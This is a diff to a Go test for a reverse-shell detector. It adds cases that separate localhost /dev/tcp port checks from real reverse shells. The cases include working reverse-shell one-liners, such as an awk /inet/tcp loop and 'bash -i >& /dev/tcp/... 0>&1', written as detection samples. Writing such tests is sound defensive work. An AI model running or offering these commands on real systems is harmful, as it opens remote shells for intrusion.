@@ -11,6 +11,11 @@ func TestReverseShellDevTCP(t *testing.T) {
 		cmdCase(`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) {s |& getline c; print c |& s}}'`, true),
 		cmdCase("ls /dev/ && cat /dev/null", false),
 		cmdCase("nc -zv example.com 443", false),
+		// A port check on this machine wires no shell to the socket.
+		cmdCase("bash -c 'echo > /dev/tcp/127.0.0.1/8080' && echo open", false),
+		cmdCase("timeout 1 bash -c '</dev/tcp/localhost/5432'", false),
+		cmdCase("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", true), // through a forward
+		cmdCase("echo > /dev/tcp/127.0.0.1/80; echo x > /dev/tcp/10.0.0.1/80", true),
 	})
 }
 
